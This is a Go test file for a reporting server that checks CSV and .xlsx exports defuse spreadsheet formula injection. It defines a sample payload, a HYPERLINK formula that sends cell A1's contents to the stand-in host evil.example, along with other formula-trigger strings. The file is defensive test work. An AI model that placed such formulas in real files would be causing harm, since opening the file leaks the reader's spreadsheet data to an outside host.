package server_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/tinhso/tinhso/sqldb/sqldbtest"
)

// evilFormula is text the JSON API accepts that a spreadsheet would run as a formula.
const evilFormula = `=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")`

// Formula-like text accepted by the JSON API is neutralised in every file tinhso
// writes for spreadsheets: the open-data CSV files get a leading apostrophe, and the
// .xlsx forms and consolidated report hold it as a text cell, never a formula
// (issue 9).
func TestFormulaTextNeutralised(t *testing.T) {
	t.Parallel()
	sqldbtest.Run(t, func(t *testing.T, engine string) {
		a := mustOpenAPI(t, engine)
		period := setUpQ1(t, a)
		mustUser(t, a, "tc.baocao", "reporter", "so-tai-chinh")
		mustUser(t, a, "khcn.thamdinh", "reviewer", "so-khoa-hoc-va-cong-nghe")

		// The text goes in through the JSON API: an indicator, a task, a problem, and
		// a reporter's note and text value.
		ind := items(t, a.do(t, "GET", "/api/v1/indicators?key=25-kh-ubnd/8.3", nil))[0]
		if r := a.admin(t, "PATCH", fmt.Sprintf("/api/v1/indicators/%v", ind["id"]), map[string]any{"name": evilFormula, "unit": "+%", "baseline": "-5"}); r.status != 200 {
			t.Fatalf("indicator: %d %s", r.status, r.body)
		}
		if r := a.admin(t, "POST", "/api/v1/tasks", map[string]any{"document": "25-kh-ubnd", "number": "9001", "title": evilFormula, "deliverable": "@SUM(A1)", "lead_text": "-1+1", "cooperating_text": "＝1+1"}); r.status != 201 {
			t.Fatalf("task: %d %s", r.status, r.body)
		}
		prob := items(t, a.do(t, "GET", "/api/v1/problems?limit=1", nil))[0]
		if r := a.admin(t, "PATCH", fmt.Sprintf("/api/v1/problems/%v", prob["id"]), map[string]any{"title": evilFormula, "basis": "\t=1+1"}); r.status != 200 {
			t.Fatalf("problem: %d %s", r.status, r.body)
		}
		b := mustLogin(t, a, "tc.baocao", testPassword)
		sub := mySubmission(t, b, period)
		id := fmt.Sprint(sub["id"])
		if r := b.do(t, "PUT", "/api/v1/submissions/"+id, map[string]any{"values": []map[string]any{{"indicator": "25-kh-ubnd/8.3", "number": 42.5, "unit": "+%", "note": evilFormula}}}); r.status != 200 {
			t.Fatalf("save: %d %s", r.status, r.body)
		}
		form := b.do(t, "GET", "/api/v1/submissions/"+id+"/form.xlsx", nil)
		if r := b.do(t, "POST", "/api/v1/submissions/"+id+"/submit", nil); r.status != 200 {
			t.Fatalf("submit: %d %s", r.status, r.body)
		}
		if r := mustLogin(t, a, "khcn.thamdinh", testPassword).do(t, "POST", "/api/v1/submissions/"+id+"/approve", nil); r.status != 200 {
			t.Fatalf("approve: %d %s", r.status, r.body)
		}

		// The open-data CSV files.
		for _, ds := range []string{"tasks", "indicators", "problems", "figures"} {
			r := a.do(t, "GET", "/portal/data/"+ds+".csv", nil)
			recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\xEF\xBB\xBF")))).ReadAll()
			if r.status != 200 || err != nil {
				t.Fatalf("%s.csv: %d %v", ds, r.status, err)
			}
			found := false
			for _, rec := range recs[1:] {
				for _, cell := range rec {
					found = found || cell == "'"+evilFormula
					if _, err := strconv.ParseFloat(cell, 64); cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && err != nil {
						t.Errorf("%s.csv: cell %q would run as a formula", ds, cell)
					}
				}
			}
			if !found {
				t.Errorf("%s.csv: the formula-like text is not there, defused", ds)
			}
		}
		if tasks := string(a.do(t, "GET", "/portal/data/tasks.csv?document=25-kh-ubnd", nil).body); !strings.Contains(tasks, ",'＝1+1,") {
			t.Errorf("a full-width equals sign is not defused:\n%s", clip([]byte(tasks)))
		}
		if inds := string(a.do(t, "GET", "/portal/data/indicators.csv?document=25-kh-ubnd", nil).body); !strings.Contains(inds, ",-5,") {
			t.Errorf("a negative number is not written as a number:\n%s", clip([]byte(inds)))
		}

		// The .xlsx files: the form as the reporter downloaded it, and the period's
		// consolidated report.
		report := a.admin(t, "GET", fmt.Sprintf("/api/v1/periods/%d/report.xlsx", period), nil)
		for name, r := range map[string]response{"form.xlsx": form, "report.xlsx": report} {
			if r.status != 200 {
				t.Fatalf("%s: %d %s", name, r.status, clip(r.body))
			}
			checkNoFormulas(t, name, r.body, evilFormula)
		}
	})
}

// checkNoFormulas opens an .xlsx and fails on any formula in it; the text want must be
// in it as a text cell.
func checkNoFormulas(t *testing.T, name string, body []byte, want string) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		xml, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(xml, []byte("<f>")) || bytes.Contains(xml, []byte("<f ")) {
			t.Errorf("%s: %s holds a formula", name, f.Name)
		}
	}
	x, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer x.Close()
	found := false
	for _, sheet := range x.GetSheetList() {
		rows, _ := x.GetRows(sheet)
		for i, row := range rows {
			for j, v := range row {
				if !strings.Contains(v, "HYPERLINK") {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				typ, _ := x.GetCellType(sheet, cell)
				if f, _ := x.GetCellFormula(sheet, cell); f != "" || (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) {
					t.Errorf("%s: %s!%s is %q, formula %q, type %v: not plain text", name, sheet, cell, v, f, typ)
				}
				found = found || v == want
			}
		}
	}
	if !found {
		t.Errorf("%s: the formula-like text is not there as text", name)
	}
}
